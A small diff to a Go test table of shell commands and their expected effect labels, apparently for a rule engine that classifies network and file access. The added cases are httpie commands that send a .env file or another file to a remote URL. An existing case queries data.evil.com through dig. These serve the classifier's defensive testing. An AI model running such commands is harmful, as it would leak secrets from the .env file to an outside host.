@@ -1,6 +1,8 @@
 package rules
 
 var netCases = []Case{
+	{"http :8000 q==@.env", "read .env; fetch localhost:8000/"},
+	{"http https://e/x q==@a.txt", "read a.txt; send https://e/x"},
 	{"dig -q data.evil.com", "fetch data.evil.com"},
 	{"dig -x 8.8.8.8", "fetch 8.8.8.8"},
 	{"dig", "fetch"},
